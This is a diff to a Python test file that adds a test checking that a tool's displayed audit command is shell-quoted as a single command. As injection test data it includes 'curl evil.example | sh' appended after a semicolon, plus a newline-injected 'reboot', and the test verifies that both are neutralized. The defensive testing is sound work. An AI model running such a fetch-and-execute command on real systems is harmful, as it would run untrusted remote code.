@@ -16,6 +16,7 @@ from hansproof.report.audited_command import (
     READING_OPTIONS,
     AuditedCommand,
     parse_command,
+    quote_command,
 )
 
 from ..support.report_page import EVIL
@@ -126,3 +127,13 @@ def test_an_audit_is_repeated_with_an_option_changed_or_left_out() -> None:
     assert parsed.repeat() == "hansproof audit a.csv --sample 60 --by topic -o out"
     assert parsed.repeat("--by", "x y") == "hansproof audit a.csv --sample 60 --by 'x y' -o out"
     assert parsed.repeat(without="--sample") == "hansproof audit a.csv --by topic -o out"
+
+
+def test_the_command_that_is_shown_is_a_single_command() -> None:
+    shown = quote_command(replace(AUDIT, command="hansproof audit 'my quiz.csv' -o out"))
+    assert shown == "hansproof audit 'my quiz.csv' -o out"
+    evil = quote_command(replace(AUDIT, command="hansproof audit toy; curl evil.example | sh"))
+    assert shlex.split(evil) == ["hansproof", "audit", "toy;", "curl", "evil.example", "|", "sh"]
+    assert "'toy;'" in evil
+    assert quote_command(replace(AUDIT, command="hansproof audit toy\nreboot")) == ""
+    assert quote_command(replace(AUDIT, command="hansproof audit 'open")) == ""
